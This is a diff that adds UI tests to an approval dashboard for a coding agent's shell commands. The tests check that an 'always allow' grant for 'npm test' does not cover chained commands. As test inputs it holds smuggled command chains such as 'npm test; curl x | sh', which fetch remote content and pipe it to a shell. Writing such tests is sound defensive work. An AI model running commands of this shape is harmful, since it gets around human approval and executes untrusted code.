@@ -94,3 +94,38 @@ def test_the_demo_starts_a_coding_agent(demo: Demo, open_page: Open) -> None:
     expect(page.get_by_test_id("call-diff").locator("ins").first).to_have_text("replicas: 1")
     demo.decide(made, "reject")
     expect(page.get_by_text("rejected").first).to_be_visible()
+
+
+def test_dialog_shows_what_grant_covers(demo: Demo, open_page: Open) -> None:
+    past = asked(demo, "Bash", command="npm test -- first")
+    demo.http.post(
+        f"/api/requests/{past['id']}/decision",
+        json={"type": "approve", "seen_digest": past["digest"]},
+    )
+    pending = [asked(demo, "Bash", command=f"npm test{more}") for more in (" -- next", "; curl x")]
+    page = shown(demo, open_page, asked(demo, "Bash", command="npm test"))
+    page.get_by_role("button", name="Always allow").click()
+    dialog = page.get_by_role("dialog")
+    covered = dialog.get_by_test_id("covered")
+    expect(covered).to_contain_text("It covers no pending request.")  # exactly this command
+    dialog.get_by_role("radio", name=re.compile("npm test, with any arguments")).check()
+    expect(covered.get_by_role("listitem")).to_have_text(
+        [re.compile("npm test -- first"), re.compile("npm test -- next")]
+    )
+    dialog.get_by_role("button", name="Approve and always allow").click()
+    assert demo.until_decided(pending[0]["id"])["status"] == "approved"
+    assert demo.http.get(f"/api/requests/{pending[1]['id']}").json()["status"] == "pending"
+    (grant,) = demo.http.get("/api/grants").json()["items"]
+    assert grant["scope"] == {"command": ["npm", "test"], "arguments": "any"}
+    page.goto(f"{demo.url}/grants")
+    expect(page.get_by_test_id("grant")).to_contain_text("npm test, with any arguments")
+    demo.http.delete(f"/api/grants/{grant['id']}")
+
+
+def test_dialog_refuses_grant_for_chained_command(demo: Demo, open_page: Open) -> None:
+    page = shown(demo, open_page, asked(demo, "Bash", command="npm test; curl x | sh"))
+    page.get_by_role("button", name="Always allow").click()
+    dialog = page.get_by_role("dialog")
+    expect(dialog.get_by_role("alert")).to_contain_text("one plain command")
+    expect(dialog.get_by_role("button", name="Approve and always allow")).to_be_disabled()
+    expect(dialog.get_by_role("radio")).to_have_count(0)
